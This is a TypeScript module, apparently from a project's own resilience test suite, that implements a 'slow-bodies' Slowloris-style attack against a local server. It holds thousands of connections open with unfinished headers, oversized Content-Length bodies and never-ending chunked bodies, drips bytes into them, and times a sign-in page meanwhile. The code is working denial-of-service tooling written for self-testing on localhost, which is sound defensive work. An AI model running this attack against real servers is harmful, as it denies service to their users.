import { get } from "node:http";
import type { Attack } from "./attack";
import { dial, type Dialled, statuses } from "./dial";

/** Of the files this process may open, some stay for everything else; more than this shows nothing new. */
const MOST = 6_000;
const SPARE = 500;
const AT_ONCE = 200;
const HELD_MS = 30_000;

const HALVES = [
  "",
  "GET /sign-in HTTP/1.1\r\nHost: localhost\r\nX-Half: ",
  "POST /api/trpc/account.signIn HTTP/1.1\r\nHost: localhost\r\nSec-Fetch-Site: same-origin\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{",
  "POST /api/trpc/account.signIn HTTP/1.1\r\nHost: localhost\r\nSec-Fetch-Site: same-origin\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n{\r\n",
  "GET /api/health HTTP/1.1\r\nHost: localhost\r\n\r\n",
];

/** Thousands of connections that are idle, or whose header or body never ends, dripping for half a minute; a page is asked for all the while. */
export const slowBodies: Attack = {
  name: "slow-bodies",
  async strike({ origin }) {
    const count = Math.min(MOST, filesLimit() - SPARE);
    const all: Dialled[] = [];
    const drip = setInterval(() => {
      for (const { socket } of all) if (socket.writable) socket.write("x");
    }, 5_000);
    const pages: number[] = [];
    const page = async () => void pages.push(await pageFromElsewhere(origin));
    try {
      for (let at = 0; at < count; at += AT_ONCE) {
        for (let n = 0; n < AT_ONCE; n += 1) all.push(dial(origin, HALVES[n % HALVES.length] ?? ""));
        await page();
      }
      for (let held = 0; held < HELD_MS; held += 1_000) {
        await new Promise((resolve) => setTimeout(resolve, 1_000));
        await page();
      }
      const kept = all.filter(({ socket }) => !socket.destroyed).length;
      return `${all.length} connections: ${statuses(all)}; ${kept} still open; ${pages.length} pages meanwhile, the longest in ${Math.round(Math.max(...pages))} ms`;
    } finally {
      clearInterval(drip);
      for (const { socket } of all) socket.destroy();
    }
  },
};

/** Another network than the attacker's, which has used up what one may hold. */
const ELSEWHERE = "127.0.0.2";

/** Milliseconds until a page is there whole. Throws unless it is answered with 200. */
function pageFromElsewhere(origin: string): Promise<number> {
  const began = performance.now();
  return new Promise((resolve, reject) => {
    get(
      {
        host: "127.0.0.1",
        port: new URL(origin).port,
        path: "/sign-in",
        agent: false,
        localAddress: ELSEWHERE,
        headers: { accept: "text/html" },
      },
      (response) => {
        response.resume();
        response.once("end", () =>
          response.statusCode === 200
            ? resolve(performance.now() - began)
            : reject(new Error(`the page was answered ${response.statusCode}`)),
        );
      },
    ).once("error", reject);
  });
}

function filesLimit(): number {
  const { userLimits } = process.report.getReport() as { userLimits?: { open_files?: { soft: number | string } } };
  const soft = Number(userLimits?.open_files?.soft);
  return Number.isFinite(soft) ? soft : MOST + SPARE;
}
